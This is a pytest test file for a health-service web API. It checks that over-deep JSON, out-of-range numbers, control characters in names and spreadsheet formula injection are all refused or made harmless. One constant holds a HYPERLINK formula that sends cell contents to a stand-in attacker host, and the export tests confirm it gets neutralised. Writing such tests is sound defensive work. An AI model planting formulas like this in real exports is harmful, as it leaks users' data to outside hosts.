"""Bad input is a 4xx naming what is wrong, never a 500, and writes nothing: JSON nested too deep,
free-form objects too deep or too big, numbers the database cannot hold as given, names with
control characters — and names already stored that way never break an export."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select, update

from app.extensions import db
from tests.factories import PASSWORD
from tests.surveys.helpers import survey_body

DEEP = "[" * 5000 + "]" * 5000


def _json(client, method, path, raw: str, headers=None):
    return client.open(path, method=method, data=raw, content_type="application/json", headers=headers or {})


def _reasons(r, field):
    assert r.status_code == 422, (r.status_code, r.get_data(as_text=True)[:300])
    assert field in r.json["errors"], r.json
    return " ".join(r.json["errors"][field])


# --- JSON nested too deep ---------------------------------------------------------------


@pytest.mark.parametrize("path", ["/api/v1/auth/wechat/login", "/api/v1/auth/staff/login"])
def test_deeply_nested_json_is_a_400_that_no_rate_limit_key_reads(client, world, app, path):
    # More attempts than the login limit allows (5 a minute under test): each is refused up front,
    # before the rate limit's key function parses the body.
    for _ in range(8):
        r = _json(client, "POST", path, DEEP)
        assert r.status_code == 400, r.get_data(as_text=True)[:200]
        assert r.json["error"] == "json_too_deep" and r.json["code"] == 400 and r.json["message"]
    for raw in ("[" * 5000, '{"a":' * 5000 + "1" + "}" * 5000):  # unclosed; objects
        r = _json(client, "POST", path, raw)
        assert (r.status_code, r.json["error"]) == (400, "json_too_deep")
    # Refused before the limiter counted them: a real login still goes through.
    r = client.post("/api/v1/auth/staff/login", json={"username": "a-doc", "password": PASSWORD})
    assert r.status_code == 200, r.json


def test_the_depth_limit_is_the_configured_one_and_strings_do_not_count(client, world, app, monkeypatch):
    limit = app.config["MAX_JSON_DEPTH"]
    assert limit == 32
    at_limit = "[" * limit + "]" * limit
    r = _json(client, "POST", "/api/v1/auth/staff/login", at_limit)
    assert r.status_code == 422  # parsed: just not a login body
    r = _json(client, "POST", "/api/v1/auth/staff/login", "[" + at_limit + "]")
    assert (r.status_code, r.json["error"]) == (400, "json_too_deep")
    monkeypatch.setitem(app.config, "MAX_JSON_DEPTH", limit + 1)
    assert _json(client, "POST", "/api/v1/auth/staff/login", "[" + at_limit + "]").status_code == 422
    # Brackets inside strings (escaped quotes too) are text, not nesting.
    password = '\\"[{' * 30
    raw = json.dumps({"username": "a-doc", "password": password})
    r = _json(client, "POST", "/api/v1/auth/staff/login", raw)
    assert r.status_code == 401, r.json
    # Valid JSON that is not deep works exactly as before, whitespace and all.
    raw = '  {\n "username" : "a-doc",\t"password": ' + json.dumps(PASSWORD) + " }\n"
    assert _json(client, "POST", "/api/v1/auth/staff/login", raw).status_code == 200


def test_a_deep_body_elsewhere_is_a_400_too(api, world, client):
    headers = api.as_("a-admin")
    r = _json(
        client,
        "PATCH",
        f"/api/v1/residents/{world.alice}",
        '{"living_environment": ' + '{"a": ' * 900 + "1" + "}" * 900 + "}",
        headers,
    )
    assert (r.status_code, r.json["error"]) == (400, "json_too_deep")


def test_a_number_longer_than_python_converts_is_a_400(api, world, client):
    r = _json(
        client, "PATCH", f"/api/v1/residents/{world.alice}", '{"team_id": ' + "1" * 5000 + "}", api.as_("a-admin")
    )
    assert (r.status_code, r.json["error"]) == (400, "bad_request")
    assert "digits" in r.json["message"]


def test_unpaired_surrogates_are_a_422_not_a_database_error(api, world, client):
    before = api.get("a-admin", f"/api/v1/residents/{world.alice}").json
    r = _json(client, "PATCH", f"/api/v1/residents/{world.alice}", '{"address": "\\ud800路"}', api.as_("a-admin"))
    assert "surrogate" in _reasons(r, "address")
    r = _json(
        client,
        "PATCH",
        f"/api/v1/residents/{world.alice}",
        '{"living_environment": {"\\udfff": 1}}',
        api.as_("a-admin"),
    )
    _reasons(r, "living_environment")
    assert api.get("a-admin", f"/api/v1/residents/{world.alice}").json == before


# --- free-form objects ------------------------------------------------------------------


def _resident(api, world):
    r = api.get("a-admin", f"/api/v1/residents/{world.alice}")
    assert r.status_code == 200
    return r.json


def test_free_form_objects_are_bounded_in_depth_and_size(api, world, client):
    before = _resident(api, world)
    path = f"/api/v1/residents/{world.alice}"

    def nested(depth):
        value = "x"
        for _ in range(depth):
            value = {"k": value}
        return value

    r = api.patch("a-admin", path, json={"living_environment": nested(6)})
    assert "deep" in _reasons(r, "living_environment")
    big = {f"key{n}": "x" * 100 for n in range(7000)}  # ~750 KB, under the body limit
    r = api.patch("a-admin", path, json={"living_environment": big})
    assert "large" in _reasons(r, "living_environment")
    r = api.patch("a-admin", path, json={"past_history": [{"disease": "高血压", "detail": nested(6)}]})
    _reasons(r, "past_history")
    r = api.patch("a-admin", path, json={"family_history": [{"who": "父亲", "note": "y" * 9000}]})
    _reasons(r, "family_history")
    # NaN is not JSON a database column takes (PostgreSQL refuses it)
    r = _json(client, "PATCH", path, '{"living_environment": {"fuel": NaN}}', api.as_("a-admin"))
    _reasons(r, "living_environment")
    assert _resident(api, world) == before  # nothing written

    fine = {"kitchen_exhaust": "hood", "water": {"source": "tap", "treated": True, "tests": [1, 2.5]}}
    r = api.patch(
        "a-admin", path, json={"living_environment": fine, "past_history": [{"disease": "结核", "year": 2001}]}
    )
    assert r.status_code == 200, r.json
    assert r.json["living_environment"] == fine


def test_new_resident_free_form_objects_are_bounded_too(api, world):
    from datetime import date

    from app.common.ids import make_id_number

    r = api.post(
        "a-admin",
        "/api/v1/residents",
        json={
            "name": "王五",
            "id_number": make_id_number("371002", date(1990, 1, 1), 555),
            "institution_id": world.a,
            "living_environment": {"a": {"b": {"c": {"d": {"e": {"f": 1}}}}}},
        },
    )
    _reasons(r, "living_environment")


# --- numbers against what the database stores -------------------------------------------


def _survey_count(app):
    from app.surveys.models import Survey

    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(Survey))


@pytest.mark.parametrize("threshold", [1e-10, 0.0004, 0, -0.5, 1.0001])
def test_survey_threshold_the_check_would_refuse_is_a_422(api, world, app, threshold):
    r = api.post("admin", "/api/v1/surveys", json=survey_body(world.district, positive_threshold=threshold))
    _reasons(r, "positive_threshold")
    assert _survey_count(app) == 0


def test_survey_threshold_nan_and_infinity_are_422(api, world, app, client):
    for literal in ("NaN", "Infinity", "-Infinity", "1e400"):
        raw = json.dumps(survey_body(world.district, positive_threshold=0.5)).replace("0.5", literal)
        _reasons(_json(client, "POST", "/api/v1/surveys", raw, api.as_("admin")), "positive_threshold")
    assert _survey_count(app) == 0
    r = api.post("admin", "/api/v1/surveys", json=survey_body(world.district, positive_threshold=0.001))
    assert r.status_code == 201 and r.json["positive_threshold"] == 0.001


def _package(world, **overrides):
    body = {
        "code": "PKG-X",
        "name": "老年人包",
        "kind": "basic",
        "price": "120.00",
        "valid_from": "2024-01-01",
        "institution_ids": [world.a],
        "items": [{"name": "随访", "service_type": "chronic_followup", "times_per_year": 4}],
    }
    body.update(overrides)
    return body


def test_money_with_more_than_cents_is_a_422_not_rounded(api, world, app):
    from app.contracts.models import ServicePackage

    r = api.post("admin", "/api/v1/packages", json=_package(world, price="12.345"))
    _reasons(r, "price")
    r = api.post("admin", "/api/v1/packages", json=_package(world, public_health_subsidy=0.001))
    _reasons(r, "public_health_subsidy")
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(ServicePackage)) == 0


@pytest.mark.parametrize("field, value", [("capacity", 2.5), ("team_id", 1.5)])
def test_a_fraction_where_a_whole_number_is_stored_is_a_422(api, world, field, value):
    body = {
        "team_id": world.team_a,
        "service": "consultation",
        "starts_at": "2031-03-03T09:00:00+08:00",
        "ends_at": "2031-03-03T09:30:00+08:00",
        "capacity": 3,
        field: value,
    }
    r = api.post("a-doc", "/api/v1/slots", json=body)
    _reasons(r, field)


def test_ids_and_counts_past_the_integer_column_are_422(api, world):
    r = api.patch("a-admin", f"/api/v1/residents/{world.alice}", json={"team_id": 2**31})
    _reasons(r, "team_id")
    r = api.get("a-admin", f"/api/v1/residents?institution_id={2**40}")
    _reasons(r, "institution_id")


# --- names and exports ------------------------------------------------------------------


@pytest.mark.parametrize("bad", ["鲸园\x0b中心", "tab\there", "line\nbreak", "del\x7f", "c1\x85"])
def test_control_characters_in_names_are_refused(api, world, app, bad):
    cases = [
        (
            "post",
            "/api/v1/institutions",
            {"code": "HC09", "name": bad, "kind": "community_health_station", "parent_id": world.a},
            "name",
        ),
        (
            "post",
            "/api/v1/teams",
            {"name": bad, "institution_id": world.a, "members": [{"staff_id": world.a_doc, "role": "leader_gp"}]},
            "name",
        ),
        (
            "post",
            "/api/v1/staff",
            {
                "username": "new-doc",
                "name": bad,
                "password": "long-enough-pw",
                "roles": ["doctor"],
                "institution_id": world.a,
            },
            "name",
        ),
        ("patch", f"/api/v1/staff/{world.a_nurse}", {"name": bad}, "name"),
        ("post", "/api/v1/packages", _package(world, name=bad), "name"),
        ("post", "/api/v1/surveys", survey_body(world.district, title=bad), "title"),
        ("patch", f"/api/v1/residents/{world.alice}", {"name": bad}, "name"),
    ]
    for method, path, body, field in cases:
        r = getattr(api, method)("admin", path, json=body)
        assert "control" in _reasons(r, field), path
    from app.orgs.models import Institution, Team

    with app.app_context():
        assert db.session.scalar(select(func.count()).where(Institution.code == "HC09")) == 0
        assert db.session.scalar(select(func.count()).select_from(Team)) == 3


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def test_exports_survive_names_stored_with_control_characters_and_formulas(api, world, app):
    from app.common.time import today
    from app.orgs.models import Institution, Team

    # Old data, written before names were checked at input.
    with app.app_context():
        db.session.execute(update(Institution).where(Institution.id == world.a).values(name="鲸园\x0b中心\x1f"))
        db.session.execute(update(Institution).where(Institution.id == world.b).values(name=HYPERLINK))
        db.session.execute(update(Team).where(Team.id == world.team_a).values(name="+1\x08队"))
        db.session.commit()
    year = today().year
    r = api.get("admin", f"/api/v1/indicators.xlsx?year={year}")
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    book = load_workbook(io.BytesIO(r.data))
    names = [c.value for c in book["附件2"]["A"][3:]]
    assert "鲸园中心" in names and "'" + HYPERLINK in names
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    header, *rows = list(book["明细"].iter_rows(values_only=True))
    detail = [dict(zip(header, row)) for row in rows]
    assert {d["institution_name"] for d in detail if d["institution_id"] == world.b} == {"'" + HYPERLINK}

    r = api.get("admin", f"/api/v1/indicators.csv?year={year}")
    assert r.status_code == 200
    records = list(csv.DictReader(io.StringIO(r.data.decode("utf-8").lstrip("\ufeff"))))
    by_id = {rec["institution_id"]: rec["institution_name"] for rec in records}
    assert by_id[str(world.a)] == "鲸园中心" and by_id[str(world.b)] == "'" + HYPERLINK

    # A team's subtree: the team's name is a cell too.
    r = api.get("a-doc", f"/api/v1/indicators.xlsx?year={year}&team_id={world.team_a}")
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    r = api.get("a-doc", f"/api/v1/indicators.csv?year={year}&team_id={world.team_a}")
    assert r.status_code == 200
    teams = {rec["team_name"] for rec in csv.DictReader(io.StringIO(r.data.decode("utf-8").lstrip("\ufeff")))}
    assert teams == {"'+1队"}


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+86", "'+86"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a\x0bb\x00c", "abc"),
        ("\x0b=1", "'=1"),
        ("普通", "普通"),
        ("a-b", "a-b"),
        (-5, -5),
        (1.5, 1.5),
        (None, None),
        (True, True),
    ],
)
def test_safe_cell(value, expected):
    from app.common.spreadsheet import safe_cell

    assert safe_cell(value) == expected
